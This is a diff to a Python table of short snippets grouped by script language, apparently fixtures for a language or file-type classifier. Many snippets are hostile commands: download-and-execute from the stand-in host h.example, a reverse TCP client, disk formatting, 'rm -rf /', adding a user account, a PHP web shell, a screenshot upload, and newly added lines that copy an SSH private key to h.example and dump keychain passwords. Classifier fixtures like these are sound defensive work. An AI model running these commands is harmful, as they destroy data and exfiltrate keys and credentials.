@@ -32,7 +32,7 @@ CODE = {
         "[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)\n", "& (gcm i*x) (irm h.example/a)\n", "param([string]$u)\n",
         "'calc' | % { & $_ }\n", "$c=New-Object Net.Sockets.TCPClient('h.example',1)\n", "powershell.exe -File a.ps1 \n",
         "$ExecutionContext.\"Inv`okeCommand\".NewScriptBlock($a)\n",
-        "&(ls Alias:/ie?) 'calc'\n"),
+        "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
         "wmic os get /format:\"http://h.example/a.xsl\"\n", "\"%ProgramFiles%\\a\\a.exe\" /s\n", "net user a b /add\n", "echo x>a.vbs\n", "\"%~dp0a\"\n",
@@ -47,12 +47,14 @@ CODE = {
         "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n", "import pip\npip.main(['install', 'a'])\n"),
     "JavaScript code": (
         "require('child_process').exec('calc')\n", "import {execSync} from 'node:child_process';\n", "var _0x1a2b=['a'];\n", "ObjC.import('stdlib')\n",
-        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n"),
+        "eval(function(p,a,c,k,e,d){return p}('0',2))\n", "function go(a, b) {\n", "(function(w){})(1)\n", "Bun.spawn(['calc']);\n",
+        "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
         "chmod +x a && ./a\n", "launchctl load ~/a.plist\n", "eval \"$(echo x)\"\n", "mkfifo /tmp/f;cat /tmp/f\n",
         "busybox wget http://h.example/a -O-|ash\n",
-        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
+        "trap '' INT\nwhile :; do id; done\n", "for i in a b; do ./$i; done\n", "scp ~/.ssh/id_rsa a@h.example:\n",
+        "security find-generic-password -wa Chrome\n", "screencapture -x a.png && curl -F f=@a.png h.example\n"),
     "AutoIt or AutoHotkey script": ("Run, calc.exe,, Hide\n", "^j::\nreturn\n", "DllCall(\"VirtualAlloc\")\n", "x(@TempDir)\n", "Run calc.exe\n", "F1::Run calc\n"),
     "Lua code": ("package.loadlib('a.dll','f')()\n", "ffi.cdef[[int system(const char*);]]\n"),
     "PHP code": ("<?=`$_GET[0]`?>\n",),
